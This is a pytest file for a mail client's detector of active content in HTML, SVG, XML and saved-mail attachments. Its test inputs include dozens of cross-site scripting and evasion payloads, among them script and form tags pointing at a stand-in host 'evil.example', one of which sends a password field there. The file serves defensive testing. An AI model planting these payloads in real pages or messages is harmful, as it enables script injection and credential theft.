from collections.abc import Iterator

import pytest

from tuimail.core.files.active_pages import activity

SVG = '<svg xmlns="http://www.w3.org/2000/svg"'

REPORT = """<!DOCTYPE html>
<html><head><meta charset=utf-8><title>Q3</title><style>p { color: red }</style>
</head><body><h1>Q3</h1><p>Numbers are up.</p>
<a href='https://example.org/?on=1&load=2'>more</a>
<img src='data:image/png;base64,iVBORw0KGgo='></body></html>"""


@pytest.mark.parametrize(
    "page",
    [
        "<script>location='https://evil.example'</script>",
        "<SCRIPT SRC=//evil.example/x>",
        "<script\n>x</script>",
        "<script/x>",
        "<scr\0ipt>x",
        "<x:script xmlns:x='http://www.w3.org/2000/svg'>",
        "<script type=module>",
        "<script data-type=application/json>x",
        "<script type=application/json x=1>",
        f"{SVG} onload='alert(1)'/>",
        "<img src=x onerror=alert(1)>",
        "<img src=x\tOnErRoR\n=\nalert(1)>",
        '<img alt=">" onerror=alert(1)>',
        "<img/src='x'onerror=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<body onpageshow=alert(1)>",
        "<a href='javascript:alert(1)'>",
        "<a href=JaVaScRiPt:alert(1)>",
        "<a href='java\nscript:alert(1)'>",
        "<a href=' \x01javascript:alert(1)'>",
        "<a href='&#106;avascript:alert(1)'>",
        "<a href='&#x6A;&#0000097vascript:alert(1)'>",
        "<a href='java&Tab;script&colon;alert(1)'>",
        '<a xlink:href = "vbscript:x">',
        "<animate attributeName=href values='a;javascript:alert(1)'/>",
        "<set attributeName=href to=javascript:alert(1) />",
        "<iframe src='data:text/html;base64,PHNjcmlwdD4='>",
        "<a href='data:text/html,x'>",
        "<iframe src=https://evil.example>",
        "<object data=x.swf>",
        "<embed src=x>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<META CONTENT='0; url=https://a.example/>' HTTP-EQUIV = ' ReFresh '>",
        "<meta http-equiv='&#114;efresh' content=0>",
        "<form action=https://evil.example><input name=password></form>",
        "<button formaction=https://evil.example>",
        "<hta:application id=x>",
        "<?xml-stylesheet type='text/xsl' href='#x'?>",
        "<!DOCTYPE svg [<!ENTITY x '&#60;script>alert(1)&#60;/script>'>]>",
        "<!DOCTYPE svg [<!ENTITY x '<a onload=1/>'>]>",
        "<img alt='<p>' onerror=alert(1)>",
        "<img alt='<p>'onerror=alert(1)>",
        "<img alt='<a b=1>x' title=y onerror=alert(1)>",
        "<p <img onerror=alert(1)>",
        "<a class=x onclick = 'y'>",
        "<p>x</p><b\nonclick&#61;x onclick=x>",
        "<a title='<textarea>'><script>x</script></textarea>",
        "<!-- <textarea> --><script>x</script></textarea>",
        "<style><textarea></style><script>x</script></textarea>",
        "<p <textarea><script>x</script></textarea>",
        f"{SVG}><textarea><script href='x'/></textarea></svg>",
        "<textarea></textarea><script>x</script><textarea></textarea>",
    ],
)
def test_what_a_page_does_is_found(page: str) -> None:
    for content in (page.encode(), page.encode("utf-16-le"), page.encode("utf-16")):
        assert activity([b"<p>Hello</p>\n", content])


@pytest.mark.parametrize(
    "page",
    [
        REPORT,
        "<p>How to enable javascript: open the settings.</p>",
        "<p>We met once = never; the onset = late, online = yes.</p>",
        "<pre>&lt;script&gt;alert(1)&lt;/script&gt; &#60;script></pre>",
        '<script type=\'application/ld+json\'>{"@type": "Order"}</script>',
        '<script type = "application/json" >{}</script>',
        "<meta http-equiv='Content-Type' content='text/html; charset=utf-8'>",
        "<formula>x</formula><scripture>y</scripture>",
        f"{SVG} width='9'><circle r='4'/><foreignObject/><a href='#x'/></svg>",
        "<!DOCTYPE svg [<!ENTITY ns_svg 'http://www.w3.org/2000/svg'>]>",
        "<?xml-stylesheet type='text/css' href='a.css'?>",
        '<pre>&lt;a onclick="x"&gt;</pre>',
        "<p>the word onload = is here</p>",
        "<p class='a' id=b>the word</p> onload = is here<br/> onerror = too",
        "<textarea><script></textarea>",
        "<p>x</p> <textarea rows=3><script>x</script> <a onclick=x></textarea>",
        "<p>&#1060;&#x44F; &#xabc; &amp; &unknown; &</p>",
        "",
    ],
)
def test_a_page_that_only_shows_itself_is_fine(page: str) -> None:
    assert activity([page.encode()]) == ""
    assert activity([page.encode()], is_saved_mail=True) == ""


def test_it_is_said_what_was_found() -> None:
    assert activity([b"<script>"]) == "a script"
    assert activity([b"<a href=javascript:x>"]) == "a link that runs code"


def test_pieces_may_end_anywhere() -> None:
    page = b"<p>Hello</p>" * 9 + b"<a href='java\nscript:x'>"

    assert activity(page[start : start + 1] for start in range(len(page)))


def test_what_comes_last_in_a_long_page_is_found() -> None:
    def pieces() -> Iterator[bytes]:
        for _ in range(80):
            yield b"<p>Hello</p>\n" * 5_000
        yield b"<script>"

    assert activity(pieces()) == "a script"


def test_a_saved_mail_is_decoded() -> None:
    page = (
        b"Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable"
        b"\r\n\r\n<img src=3Dx one=\r\nrror=3Dalert(1)>=3Cp=3E"
    )

    assert activity([page], is_saved_mail=True) == "code that an event runs"
    assert activity([page]) == ""


@pytest.mark.parametrize(
    "header",
    [
        b"Content-Type: text/html;\r\n a=b\r\nContent-Transfer-Encoding: base64\r\n",
        b"Content-Transfer-Encoding: base64\r\nContent-Type: text/html\r\n\r\nPHNj",
    ],
)
def test_a_saved_page_in_base64_cannot_be_looked_into(header: bytes) -> None:
    assert activity([header], is_saved_mail=True) == "a part that cannot be looked into"


@pytest.mark.parametrize(
    ("xml", "expected"),
    [
        ("<order><form no='3'/><script>s</script></order>", ""),
        ("<x xmlns='http://www.w3.org/1999/xhtml'><script>", "a script"),
        ("<script/>" + " " * 9000 + f"{SVG}/>", "a script"),
        ("<?xml-stylesheet type='text/xsl' href = ' #x'?><script>", "a script"),
        ("<?xml-stylesheet type='text/xsl' href='#x'?>",
         "a style sheet that is a program"),
        ("<?xml-stylesheet type='text/xsl' href='fattura.xsl'?><form>", ""),
        ("<a xmlns='http://www.w3.org/1999/xhtml'/>", ""),
    ],
)  # fmt: skip
def test_data_is_only_active_where_a_browser_takes_it_for_a_page(
    xml: str, expected: str
) -> None:
    pieces = [xml[start : start + 4000].encode() for start in range(0, len(xml), 4000)]

    assert activity(pieces, is_data=True) == expected


HINTS = b" refresh script: script data: base64 entity stylesheet frame form on"
"""Words without which nothing is looked for."""


@pytest.mark.parametrize(
    "part",
    [
        "<", "<script type", "&#", "&#0", "&#x0", " ", "<meta ", "<meta http-equiv= ",
        " onload", " onmouse", "href=", "href=a;", "<!entity 'a", "=\n", "text/html ",
        "encoding: ", "<?xml-stylesheet ", "<a:", "on", "\n\t",
        " onload=", "<p> onload=", "<textarea>", "<a b", "a ", "<textarea> ", ">",
    ],
)  # fmt: skip
def test_repetition_is_no_burden(part: str) -> None:
    content = (part * (300_000 // len(part))).encode() + HINTS

    assert activity([content, content]) == activity([content])


def test_long_runs_are_no_burden() -> None:
    for start in (b"<meta http-equiv=", b"<script", b" onload", b"href=", b"&#", b"on"):
        for filling in (b" ", b"a", b"0", b"="):
            short = activity([start + filling * 3 + HINTS])
            assert activity([start + filling * 200_000 + HINTS]) == short
